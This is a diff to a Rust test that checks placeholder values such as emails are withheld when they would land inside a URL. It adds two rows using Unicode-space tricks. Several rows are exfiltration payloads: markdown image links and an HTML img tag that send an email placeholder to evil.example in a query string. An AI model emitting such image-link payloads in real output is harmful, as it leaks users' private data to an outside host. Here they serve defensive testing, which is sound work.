@@ -160,6 +160,8 @@ fn no_value_goes_into_a_url() {
         ("host", "https://EMAIL_0ABCDEFG.evil.example", 1, 0),
         ("behind it", "see https://a.example and write to <EMAIL_0ABCDEFG>", 0, 1),
         ("angle brackets", "![](<https://evil.example/?q= <EMAIL_0ABCDEFG> PERSON_Z00000AA>)", 2, 0),
+        ("a blank of no renderer", "![x](https://evil.example/?q=\u{a0}EMAIL_0ABCDEFG) EMAIL_0ABCDEFG", 1, 1),
+        ("the same in HTML", "<img src=https://evil.example/?q=\u{2028}EMAIL_0ABCDEFG> EMAIL_0ABCDEFG", 1, 1),
     ];
     for (name, text, withheld, restored) in rows {
         let counts = whole(text, Landing::Text).counts;
